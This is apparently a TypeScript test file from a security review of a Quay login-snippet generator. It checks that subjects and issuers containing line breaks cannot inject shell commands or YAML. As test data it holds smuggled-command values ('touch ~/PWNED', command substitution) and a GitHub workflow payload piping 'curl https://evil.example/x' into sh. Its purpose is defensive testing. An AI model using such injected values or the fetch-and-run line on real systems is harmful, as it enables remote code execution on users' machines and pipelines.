/**
 * Security review 2026-12, finding 1: Quay stores any non-empty subject or issuer, newlines included. A stored
 * `system:serviceaccount:prod:puller\ntouch ~/PWNED #` ended the `# …` comment of the script Copy Login Command
 * puts on the clipboard, and running it ran `touch`. Here every form of the snippet is run with `sh` (kubectl,
 * curl, jq, podman and docker stubbed on PATH, HOME a temporary folder) and must run no injected command.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { keylessLoginSnippet } from '../../../src/core/federation/loginCommands';
import type { FederationEntry } from '../../../src/core/quay/types';

const quay = { origin: 'https://quay.example.com', robot: 'acme+keyless' };
const GITHUB = 'https://token.actions.githubusercontent.com';

/** Payloads after a line break: a command, a command substitution, and `\r\n` (a CR is an ordinary byte to sh). */
const injected = (base: string): string[] => [
  `${base}\ntouch ~/PWNED #`,
  `${base}\r\ntouch ~/PWNED #`,
  `${base}\n$(touch ~/PWNED) #`,
  `${base}\u2028\ntouch ~/PWNED`,
];

interface Run {
  readonly pwned: boolean;
  readonly calls: string;
}

/** Runs `script` with sh in a temporary HOME, the tools stubbed; says whether ~/PWNED appeared and what was called. */
function runScript(script: string, extraEnv: Readonly<Record<string, string>> = {}): Run {
  const home = mkdtempSync(join(tmpdir(), 'quay-snippet-'));
  try {
    const bin = join(home, 'bin');
    mkdirSync(bin);
    const log = join(home, 'calls.log');
    const stub = (name: string, out: string): void => {
      writeFileSync(join(bin, name), `#!/bin/sh\necho "${name} $*" >> "$CALLS"\ncat > /dev/null\nprintf '%s\\n' '${out}'\n`);
      chmodSync(join(bin, name), 0o755);
    };
    stub('kubectl', 'eyJ.oidc.token');
    stub('curl', '{"token":"minted","value":"eyJ.oidc.token"}');
    stub('jq', 'minted');
    stub('podman', 'Login Succeeded!');
    stub('docker', 'Login Succeeded!');
    const tokenFile = join(home, 'token');
    writeFileSync(tokenFile, 'eyJ.oidc.token');
    const file = join(home, 'snippet.sh');
    writeFileSync(file, script);
    execFileSync('sh', [file], {
      env: {
        PATH: `${bin}:/usr/bin:/bin`,
        HOME: home,
        CALLS: log,
        OIDC_TOKEN_FILE: tokenFile,
        JWT_SVID_FILE: tokenFile,
        QUAY_ID_TOKEN: 'eyJ.oidc.token',
        ACTIONS_ID_TOKEN_REQUEST_URL: 'https://actions.example/token?x=1',
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'request-token',
        ...extraEnv,
      },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    return { pwned: existsSync(join(home, 'PWNED')), calls: existsSync(log) ? readFileSync(log, 'utf8') : '' };
  } finally {
    rmSync(home, { recursive: true, force: true });
  }
}

const commandLines = (text: string): string[] => text.split('\n').filter((l) => !l.startsWith('#'));

void test('the stubbed run works: a clean entry logs in through curl, jq and podman, and the probe sees a real injection', () => {
  const clean = runScript(keylessLoginSnippet(quay, { issuer: 'https://kc.example/realms/r', subject: 'system:serviceaccount:prod:puller' }).text);
  assert.equal(clean.pwned, false);
  assert.match(clean.calls, /^kubectl create token puller -n prod --audience quay\.example\.com$/m);
  assert.match(clean.calls, /^podman login --username acme\+keyless --password-stdin quay\.example\.com$/m);
  // The probe itself can see an injection: the unescaped form of the old code.
  assert.equal(runScript('# comment of puller\ntouch ~/PWNED #\n').pwned, true);
});

const SA = { issuer: 'https://oidc.eks.eu-west-1.amazonaws.com/id/ABC', subject: 'system:serviceaccount:prod:puller' };
const SPIFFE = { issuer: 'https://spire.example.org', subject: 'spiffe://example.org/ns/prod/sa/puller' };
const GENERIC = { issuer: 'https://kc.example/realms/r', subject: '0f0e-client' };
const GITLAB = { issuer: 'https://gitlab.com', subject: 'project_path:g/p:ref_type:branch:ref:main' };

for (const [form, clean, entries] of [
  ['ServiceAccount subject', GENERIC, injected(SA.subject).map((subject) => ({ ...SA, subject }))],
  ['SPIFFE subject', SPIFFE, injected(SPIFFE.subject).map((subject) => ({ ...SPIFFE, subject }))],
  ['generic subject', GENERIC, injected(GENERIC.subject).map((subject) => ({ ...GENERIC, subject }))],
  ['generic issuer', GENERIC, injected(GENERIC.issuer).map((issuer) => ({ ...GENERIC, issuer }))],
  ['GitLab subject', GITLAB, injected(GITLAB.subject).map((subject) => ({ ...GITLAB, subject }))],
] as const) {
  void test(`a ${form} with a line break runs no injected command, is shown escaped and flagged`, () => {
    for (const entry of entries as readonly FederationEntry[]) {
      const s = keylessLoginSnippet(quay, entry);
      assert.equal(s.kind, 'shell');
      const run = runScript(s.text);
      assert.equal(run.pwned, false, `${JSON.stringify(entry)} ran the injected command:\n${s.text}`);
      assert.match(run.calls, /^podman login --username acme\+keyless --password-stdin quay\.example\.com$/m, s.text);
      // The same command lines as for the clean entry (a ServiceAccount subject with a line break names no
      // ServiceAccount: generic form): the server's text is only ever in comments.
      assert.deepEqual(commandLines(s.text), commandLines(keylessLoginSnippet(quay, clean).text), s.text);
      assert.match(s.text, /^# WARNING: this trust entry contains control characters/m);
      if (form !== 'GitLab subject') assert.ok(s.text.includes('\\n'), `the line break is shown as \\n:\n${s.text}`);
      assert.ok(!s.text.includes('\r') && !s.text.includes('\u2028'), 'no raw control character in the snippet');
    }
  });
}

void test('a GitHub Actions subject with line breaks adds no YAML and no command to the job fragment', () => {
  const clean = keylessLoginSnippet(quay, { issuer: GITHUB, subject: 'repo:acme/app:ref:refs/heads/main' });
  const payloads = [
    ...injected('repo:acme/app:ref:refs/heads/main'),
    'repo:acme/app:ref:refs/heads/main\nsteps:\n  - run: curl https://evil.example/x | sh\n#',
    'repo:acme/app:ref:refs/heads/main\n  - run: touch ~/PWNED\n#',
  ];
  for (const subject of payloads) {
    const s = keylessLoginSnippet(quay, { issuer: GITHUB, subject });
    assert.equal(s.kind, 'githubWorkflow');
    assert.deepEqual(parse(s.text), parse(clean.text), `the fragment's YAML changed:\n${s.text}`);
    assert.deepEqual(commandLines(s.text), commandLines(clean.text));
    assert.match(s.text, /^# WARNING: this trust entry contains control characters/m);
    const job = parse(s.text) as { steps: { run: string; env: Record<string, string> }[] };
    const run = runScript(job.steps[0]?.run ?? '', job.steps[0]?.env);
    assert.equal(run.pwned, false);
    assert.match(run.calls, /^docker login --username acme\+keyless --password-stdin quay\.example\.com$/m);
  }
});

void test('a robot name that YAML would read differently is quoted in the GitHub fragment', () => {
  const s = keylessLoginSnippet({ origin: quay.origin, robot: 'acme+x\n  evil: 1' }, { issuer: GITHUB, subject: 'repo:acme/app:pull_request' });
  const job = parse(s.text) as { steps: { env: Record<string, string> }[] };
  assert.deepEqual(job.steps[0]?.env, { QUAY_ROBOT: 'acme+x\n  evil: 1' });
});
